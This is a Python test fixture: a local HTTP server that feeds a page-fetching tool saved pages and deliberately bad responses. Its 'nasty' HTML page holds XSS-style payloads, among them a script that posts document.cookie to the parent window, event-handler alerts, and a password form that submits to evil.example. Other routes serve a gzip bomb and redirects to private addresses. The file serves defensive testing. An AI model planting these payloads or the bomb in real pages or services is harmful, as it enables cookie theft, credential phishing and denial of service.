"""A local HTTP server serving the saved pages and every bad answer a page can give.

Used by the fetching and capture tests (and bench/capture.py): it listens on a
free 127.0.0.1 port, which the tests list in FETCH_ALLOWED_HOSTS.
"""

import functools
import gzip
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

PAGES = Path(__file__).resolve().parent.parent / "tests" / "data" / "pages"


def make_pdf(lines):
    """A small, valid one-page PDF whose text is `lines` (ASCII), for pypdf to read."""
    text = "BT /F1 12 Tf 72 720 Td 14 TL " + " ".join(f"({line}) '" for line in lines) + " ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(text), text.encode()),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


@functools.cache
def bomb():
    """64 MB of zeros in about 64 kB of gzip (made once: compressing it takes a while)."""
    return gzip.compress(b"\0" * (64 * 1024 * 1024), compresslevel=9)


PDF_LINES = ["Annual report 2025", "The desk checked 1,204 claims in 2025.", "Of these, 312 were rated false."]


NASTY = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>Nasty page</title>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0; url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css">
<script src="https://evil.example/x.js"></script><script>window.parent.postMessage(document.cookie, "*")</script>
<style>body { color: #222; }</style></head>
<body onload="alert(1)"><article><h1 onclick="alert(2)">Nasty page</h1>
<p>The desk checked 1,204 claims in 2025 and this paragraph is long enough to be the main text of the page for the extractor.</p>
<a href="javascript:alert(3)">a javascript link</a> <a href="https://example.org/">a plain link</a>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y">
<svg onload="alert(4)"><circle r="4"/></svg><img src="https://evil.example/pixel.gif" onerror="alert(5)">
<form action="https://evil.example/steal"><input name="password"></form>
<noscript><img src="https://evil.example/noscript.gif"></noscript>
</article></body></html>"""


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *args):
        pass

    def _send(self, status, body=b"", content_type="text/html; charset=utf-8", headers=()):
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(body)))
        for name, value in headers:
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        self.server.requests.append((self.path, dict(self.headers)))
        path = self.path.split("?")[0]
        stop = self.server.stopping
        if path.startswith("/pages/"):
            name = path.removeprefix("/pages/")
            file = PAGES / name
            if "/" in name or not file.is_file():
                return self._send(404, b"<h1>Not found</h1>")
            content_type = "text/html; charset=utf-8" if name.endswith(".html") else "text/plain; charset=utf-8"
            return self._send(200, file.read_bytes(), content_type)
        if path == "/text":
            return self._send(200, b"The desk checked 1,204 claims.\n", "text/plain; charset=utf-8")
        if path == "/report.pdf":
            return self._send(200, make_pdf(PDF_LINES), "application/pdf")
        if path.startswith("/redirect/"):
            hops = int(path.removeprefix("/redirect/"))
            target = f"/redirect/{hops - 1}" if hops > 1 else "/pages/en_pbs_census.html"
            return self._send(302, headers=[("Location", target)])
        if path == "/loop":
            return self._send(301, headers=[("Location", "/loop")])
        if path == "/to-private":
            return self._send(302, headers=[("Location", "http://10.1.2.3/admin/")])
        if path == "/to-ftp":
            return self._send(302, headers=[("Location", "ftp://127.0.0.1/file")])
        if path == "/missing":
            return self._send(404, b"<h1>Not found</h1>")
        if path == "/error":
            return self._send(500, b"<h1>Server error</h1>")
        if path == "/gzip":
            return self._send(200, gzip.compress((PAGES / "en_pbs_census.html").read_bytes()), headers=[("Content-Encoding", "gzip")])
        if path == "/bomb":
            return self._send(200, bomb(), headers=[("Content-Encoding", "gzip")])
        if path == "/lying":
            # Says HTML, sends a PNG-like binary.
            return self._send(200, b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 16, "text/html; charset=utf-8")
        if path == "/big":
            # No Content-Length: the size is only learned while reading.
            self.send_response(200)
            self.send_header("Content-Type", "text/plain")
            self.send_header("Connection", "close")
            self.end_headers()
            chunk = b"x" * 65536
            try:
                for _ in range(1024):
                    if stop.is_set():
                        break
                    self.wfile.write(chunk)
            except OSError:
                pass
            self.close_connection = True
            return None
        if path in ("/slow", "/endless"):
            # /slow trickles one byte every 50 ms; /endless never stops sending.
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Connection", "close")
            self.end_headers()
            try:
                while not stop.is_set():
                    self.wfile.write(b"a")
                    self.wfile.flush()
                    if path == "/slow":
                        stop.wait(0.05)
            except OSError:
                pass
            self.close_connection = True
            return None
        if self.path.startswith("/save/"):
            # A fake Save Page Now: it redirects to the snapshot, which names itself in Content-Location.
            return self._send(302, headers=[("Location", "/web/20261202101500/" + self.path.removeprefix("/save/"))])
        if self.path.startswith("/web/"):
            return self._send(200, b"<h1>Wayback snapshot</h1>", headers=[("Content-Location", self.path)])
        if self.path.startswith("/save-broken/"):
            return self._send(503, b"<h1>Try again later</h1>")
        if path == "/nasty":
            # Every way a page can try to run something or call home.
            return self._send(200, NASTY.encode(), "text/html; charset=utf-8")
        if path == "/zh-gbk":
            # Chinese in GBK, named only in the Content-Type header.
            return self._send(
                200,
                (PAGES / "zh_zaobao_chips.html").read_text().replace('charset="utf-8"', "").encode("gbk", "replace"),
                "text/html; charset=gbk",
            )
        if path == "/silent":
            stop.wait(30)
            self.close_connection = True
            return None
        return self._send(404, b"<h1>Not found</h1>")


class PageServer:
    def __init__(self):
        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.httpd.daemon_threads = True
        self.httpd.requests = []
        self.httpd.stopping = threading.Event()
        self.host, self.port = self.httpd.server_address[:2]
        self.thread = threading.Thread(target=self.httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)

    def url(self, path):
        return f"http://{self.host}:{self.port}{path}"

    @property
    def requests(self):
        return self.httpd.requests

    def __enter__(self):
        bomb()  # before serving, so that no request waits for it
        self.thread.start()
        return self

    def __exit__(self, *exc):
        self.httpd.stopping.set()
        self.httpd.shutdown()
        self.httpd.server_close()
        self.thread.join(5)
